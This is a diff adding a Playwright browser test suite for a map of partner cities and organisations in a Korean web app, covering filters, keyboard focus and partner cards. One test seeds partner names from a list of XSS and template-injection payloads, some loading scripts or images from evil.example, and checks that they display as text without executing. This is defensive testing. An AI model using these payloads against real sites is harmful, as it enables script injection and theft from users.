@@ -1,0 +1,120 @@
+"""The map in a real Chromium. The tab itself fails on any error, dialog, CSP report or request to another host (T8)."""
+
+import pytest
+from playwright.sync_api import FrameLocator, Page, expect
+
+from partners.directory.actions import create_partner
+from tests.support.browser import sign_in
+from tests.support.server import LiveServer
+
+pytestmark = pytest.mark.one_database
+MARKERS = [
+    "<script>alert({n})</script>",
+    '"><img src=x onerror=alert({n})>',
+    "'><svg onload=alert({n})>",
+    "</script><script>alert({n})</script>",
+    "</title><script src=//evil.example/{n}.js></script>",
+    "${{alert({n})}}",
+    "`${{alert({n})}}`",
+    "{{{{7*7}}}} {n}",
+    "{{% raw %}}{n}",
+    "javascript:alert({n})",
+    "<iframe srcdoc='<script>parent.alert({n})</script>'>",
+    "<a href=javascript:alert({n})>x</a>",
+    "--><script>alert({n})</script>",
+    "<style>*{{background:url(//evil.example/{n})}}</style>",
+    "<img src=//evil.example/{n}.png>",
+    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
+    "&lt;img src=x onerror=alert({n})&gt;",
+    "');alert({n});//",
+    "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert({n}) src=1>'>",
+    "한글 <b onmouseover=alert({n})>이름</b>",
+]
+HOSTILE = [marker.format(n=number) for number, marker in enumerate(MARKERS * 3)]
+
+
+def frame_of(page: Page) -> FrameLocator:
+    frame = page.frame_locator("[data-map-frame]")
+    expect(frame.locator("html[data-map=ready]")).to_have_count(1)
+    return frame
+
+
+def open_map(page: Page, address: str = "/map/") -> FrameLocator:
+    sign_in(page, "exchange")
+    page.goto(address)
+    return frame_of(page)
+
+
+def test_the_report_on_the_map(page: Page, live: LiveServer) -> None:
+    frame = open_map(page)
+    expect(frame.locator(".map-cluster, .map-point").first).to_be_visible()
+    for name in ("울릉도", "독도", "동해", "황해"):
+        expect(frame.locator(".map-place", has_text=name)).to_be_visible()
+    expect(page.locator("[data-map-count]")).to_have_text("이 화면에 28곳")
+    expect(page.locator("[data-map-outside]")).to_have_text("화면 밖 4곳")
+    expect(frame.get_by_role("button", name="몬테레이파크시")).to_be_visible()
+
+
+def test_filters_reach_the_frame_at_once(page: Page, live: LiveServer) -> None:
+    frame = open_map(page)
+    with page.expect_response("**/map/points*"):
+        page.get_by_role("checkbox", name="올해 기록 없음").check()
+    expect(page.locator("[data-map-query]")).to_have_attribute(
+        "data-map-query",
+        "chosen=y&kind=city&kind=hospital&kind=company&kind=ambassador&kind=supporter&kind=institution&silent=y",
+    )
+    expect(frame.get_by_role("button", name="고성군")).to_be_visible()
+    expect(page.locator("[data-map-count]")).to_have_text("이 화면에 2곳")
+    assert "silent=y" in page.url
+
+
+def test_the_keyboard_opens_a_partner_and_comes_back(page: Page, live: LiveServer) -> None:
+    frame = open_map(page, "/map/?kind=city&silent=y")
+    symbol = frame.get_by_role("button", name="고성군")
+    symbol.focus()
+    page.keyboard.press("Enter")
+    card = frame.get_by_role("dialog", name="고성군")
+    expect(card).to_be_focused()
+    expect(card.get_by_role("link", name="파트너 열기")).to_have_attribute("target", "_parent")
+    page.keyboard.press("Escape")
+    expect(card).to_have_count(0)
+    expect(symbol).to_be_focused()
+
+
+def test_a_partner_opens_in_the_page_and_not_in_the_frame(page: Page, live: LiveServer) -> None:
+    frame = open_map(page)
+    page.get_by_role("button", name="기시와다시 지도에서 보기", exact=True).click()
+    card = frame.get_by_role("dialog", name="기시와다시")
+    expect(card).to_contain_text("기시와다시 일한친선협회")
+    card.get_by_role("link", name="파트너 열기").click()
+    expect(page.get_by_role("heading", level=1)).to_contain_text("기시와다시")
+
+
+def test_the_small_map_of_a_partner(page: Page, live: LiveServer) -> None:
+    sign_in(page, "exchange")
+    page.goto("/map/?kind=city")
+    address = page.get_by_role("link", name="영암군").get_attribute("href") or ""
+    page.goto(f"/map/view?partner={address.rsplit('/', 1)[-1]}")
+    expect(page.locator("html[data-map=ready]")).to_have_count(1)
+    expect(page.locator(".map-sources")).to_have_text("304km")
+    expect(page.get_by_text("영암군")).to_be_visible()
+
+
+def test_hostile_names_are_shown_and_never_run(page: Page, live: LiveServer) -> None:
+    kept = []
+    with live.office.writing():
+        for number, name in enumerate(HOSTILE):
+            place = {"lat": 34.0 + number // 10 * 0.6, "lon": 126.0 + number % 10 * 0.5, "country": "KR"}
+            values = {"name_ko": name, "name_native": f"n{name}", "region": name[:40], **place}
+            made = create_partner("company", values, by=live.office.person("exchange"), confirmed=True)
+            kept.append((made.id, made.name_ko))
+    frame = open_map(page, "/map/?kind=company")
+    expect(page.locator("[data-map-count]")).to_contain_text("60")
+    for partner_id, name in kept:
+        page.locator(f"[data-map-item='{partner_id}'] [data-map-show]").dispatch_event("click")
+        expect(frame.locator(".map-card-head b").last).to_have_text(name)
+    frame.get_by_role("button", name="모두").click()
+    expect(frame.locator(".map-cluster").first).to_be_visible()
+    assert not page.evaluate(
+        "document.querySelector('[data-map-frame]').contentDocument.querySelector('.map-card script, .map-label img, svg[onload]')"
+    )
